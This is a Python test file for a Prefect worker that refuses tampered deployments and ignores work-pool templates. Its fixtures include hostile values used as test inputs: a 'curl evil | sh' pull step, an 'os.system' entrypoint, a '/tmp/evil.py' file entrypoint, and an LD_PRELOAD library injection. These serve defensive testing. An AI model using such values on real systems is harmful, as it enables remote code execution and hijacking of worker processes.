"""What stands on the Prefect server does not decide which program a worker runs."""

import asyncio
import subprocess
import sys
from collections.abc import AsyncIterator
from datetime import timedelta
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

import pytest
from prefect.client.schemas.objects import FlowRun, State
from prefect.events.filters import EventFilter
from prefect.flows import load_flow_from_entrypoint
from prefect.server.events.filters import EventFilter as ServerFilter
from prefect.server.events.schemas.events import Event, RelatedResource, Resource
from prefect.settings import Settings, get_current_settings
from prefect.types._datetime import now
from prefect.utilities.dispatch import lookup_type
from prefect.workers.base import BaseWorker
from prefect.workers.process import ProcessWorker

from worker import bound
from worker.bound import COMMAND, BoundConfiguration, BoundWorker, entrypoints, problem, remember_settings

KNOWN = entrypoints()
AS_DEPLOYED: dict[str, Any] = {
    "name": "production",
    "entrypoint": "flows.release.release",
    "pull_steps": [],
    "job_variables": {},
    "storage_document_id": None,
}


def deployment(**changed: Any) -> Any:
    return SimpleNamespace(**AS_DEPLOYED | changed)


def test_every_deployment_is_known_by_the_name_of_its_flow() -> None:
    """The name is made of the entrypoint: each flow is really called so."""
    assert len(KNOWN) > 15
    for named, entrypoint in KNOWN.items():
        assert load_flow_from_entrypoint(entrypoint).name == named.split("/")[0]


def test_a_start_warns_of_nothing() -> None:
    """A warning in the journal of a new installation would be looked into."""
    command = (sys.executable, "-m", "worker.bound", "--help")
    assert subprocess.run(command, check=True, capture_output=True, text=True).stderr == ""


def test_settings_as_variables_are_worked_out_once_and_are_what_they_were(monkeypatch: pytest.MonkeyPatch) -> None:
    """A run's variables may be changed afterwards: what is remembered is not. Other settings are worked out anew."""
    work_out, asked = Settings.to_environment_variables, []
    monkeypatch.setattr(
        Settings, "to_environment_variables", lambda one, **how: asked.append(one) or work_out(one, **how)
    )
    remember_settings()
    now = get_current_settings()
    first = now.to_environment_variables(exclude_unset=True)
    first["PREFECT_API_URL"] = "changed"
    again = now.to_environment_variables(exclude_unset=True)
    assert again == work_out(now, exclude_unset=True) != first
    other = Settings(api=now.api.model_copy(update={"url": "http://127.0.0.1:1/api"}))
    assert other.to_environment_variables(exclude_unset=True)["PREFECT_API_URL"] == "http://127.0.0.1:1/api"
    assert asked == [now, other]


def test_no_flow_keeps_results() -> None:
    """Where they are kept is a setting of the server: a person with its login could choose a storage of theirs, which a
    run would write to and unpickle from."""
    assert {load_flow_from_entrypoint(entrypoint).persist_result for entrypoint in KNOWN.values()} == {False}


def test_a_deployment_as_we_deployed_it_is_started() -> None:
    """Empty pull steps are ours: `pull: []` in prefect.yaml."""
    assert problem("release/production", deployment(), KNOWN) == ""
    assert problem("release/production", deployment(pull_steps=None), KNOWN) == ""


CHANGED: dict[str, dict[str, Any]] = {
    "pull steps": {"pull_steps": [{"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}]},
    "another entrypoint": {"entrypoint": "os.system"},
    "a file as entrypoint": {"entrypoint": "/tmp/evil.py:release"},
    "job variables": {"job_variables": {"env": {"PYTHONPATH": "/tmp"}}},
    "a storage block": {"storage_document_id": uuid4()},
}


@pytest.mark.parametrize("changed", CHANGED.values(), ids=CHANGED)
def test_a_deployment_that_was_changed_is_refused_in_one_sentence(changed: dict[str, Any]) -> None:
    """It says what is changed, and how it is put right."""
    why = problem("release/production", deployment(**changed), KNOWN)
    assert why.startswith("release/production is not as prefect.yaml has it (")
    assert why.endswith("deploy again: python -m blocks deploy.")


@pytest.mark.parametrize("named", ["release/elsewhere", "evil/production", "release/(none)", ""])
def test_a_deployment_that_is_none_of_ours_is_refused(named: str) -> None:
    """Made by another person, deleted, or without a deployment."""
    assert "is in no prefect.yaml" in problem(named, deployment(), KNOWN)
    assert "is in no prefect.yaml" in problem("release/production", None, KNOWN)


def test_the_template_of_the_pool_decides_nothing() -> None:
    """Neither the command nor the environment, the folder, or what it prints: also where a person changed the pool."""
    evil: dict[str, Any] = {"command": "sh -c evil", "env": {"LD_PRELOAD": "/tmp/evil.so"}, "stream_output": True}
    configuration = BoundConfiguration(**evil, working_dir="/tmp", labels={})
    configuration.prepare_for_flow_run(FlowRun(id=uuid4(), flow_id=uuid4(), name="any"))
    assert (configuration.command, configuration.working_dir, configuration.stream_output) == (COMMAND, None, False)
    assert sys.executable in COMMAND
    assert "LD_PRELOAD" not in configuration.env
    assert configuration._command_configured


def test_it_is_the_worker_of_a_process_pool() -> None:
    """`prefect worker start --type process` in this process starts it."""
    assert lookup_type(BaseWorker, "process") is BoundWorker


class Events:
    """What the server tells of scheduled runs: first it is away, then it tells of one, then no more."""

    def __init__(self) -> None:
        self.asked: list[EventFilter] = []
        self.third = asyncio.Event()

    def __call__(self, asked: EventFilter) -> "Events":
        self.asked.append(asked)
        return self

    async def __aenter__(self) -> AsyncIterator[int]:
        if len(self.asked) == 1:
            raise ConnectionError("away")
        return self.told()

    async def __aexit__(self, *error: object) -> None:
        pass

    async def told(self) -> AsyncIterator[int]:
        if len(self.asked) == 2:
            yield 1
        self.third.set()
        await asyncio.Event().wait()


@pytest.mark.parametrize(
    ("queues", "role", "name"), [(["emergency"], "work-queue", "emergency"), ([], "work-pool", "playbook")]
)
async def test_a_worker_looks_for_work_when_a_run_of_its_queues_is_scheduled(
    queues: list[str], role: str, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever becomes of the events: the looks by the clock go on beside it."""
    events, looks = Events(), asyncio.Queue[str]()
    monkeypatch.setattr(bound, "get_events_subscriber", events)
    monkeypatch.setattr(bound, "EVENTS_AWAY_S", 0)
    worker = BoundWorker("playbook", work_queues=queues)

    async def look() -> list[Any]:
        looks.put_nowait("looked")
        raise ConnectionError("the server is away")

    monkeypatch.setattr(worker, "get_and_submit_flow_runs", look)
    watch = asyncio.create_task(worker._look_when_asked())
    async with asyncio.timeout(30):
        await looks.get()
        await events.third.wait()
        watch.cancel()
        await asyncio.wait([watch])
    assert watch.cancelled()
    scheduled = Event(
        id=uuid4(),
        occurred=now("UTC"),
        event="prefect.flow-run.Scheduled",
        resource=Resource({"prefect.resource.id": "prefect.flow-run.1"}),
        related=[
            RelatedResource(
                {
                    "prefect.resource.id": f"prefect.{role}.1",
                    "prefect.resource.role": role,
                    "prefect.resource.name": name,
                }
            )
        ],
    )
    asked = ServerFilter.model_validate_json(events.asked[-1].model_dump_json(exclude={"occurred"}))
    asked.occurred.since = scheduled.occurred - timedelta(days=1)
    elsewhere = scheduled.model_copy(deep=True)
    elsewhere.related[0].root["prefect.resource.name"] = "another"
    assert (asked.includes(scheduled), asked.includes(elsewhere)) == (True, False)


@pytest.mark.parametrize("may_begin", [True, False])
async def test_a_deployment_is_read_once_while_the_server_is_asked_whether_the_run_may_begin(
    monkeypatch: pytest.MonkeyPatch, may_begin: bool
) -> None:
    """Prefect's worker sees a run without a deployment, and reads none; `run` sees the run as it is. A read that fails
    in a run that does not begin is told to no one."""
    read: list[Any] = []

    async def deployment_of(_: Any, flow_run: FlowRun) -> tuple[str, None]:
        read.append(flow_run.deployment_id)
        await asyncio.sleep(0)
        if not may_begin:
            raise ConnectionError("away")
        return "evil/production", None

    class Client:
        async def set_flow_run_state(self, _: Any, state: State, **__: Any) -> None:
            read.append(state.name)

    async def submit(worker: BoundWorker, seen: FlowRun) -> None:
        assert seen.deployment_id is None
        await asyncio.sleep(0.01)  # the server answers
        if may_begin:
            await worker.run(seen, BoundConfiguration(labels={}))

    monkeypatch.setattr(bound, "deployment_of", deployment_of)
    monkeypatch.setattr(ProcessWorker, "_submit_run", submit)
    worker = BoundWorker("playbook")
    worker._client = Client()  # type: ignore[assignment]
    run = FlowRun(id=uuid4(), flow_id=uuid4(), deployment_id=uuid4(), name="any")
    await worker._submit_run(run)
    assert read == [run.deployment_id, *(["Refused"] if may_begin else [])]
    assert not worker._asked
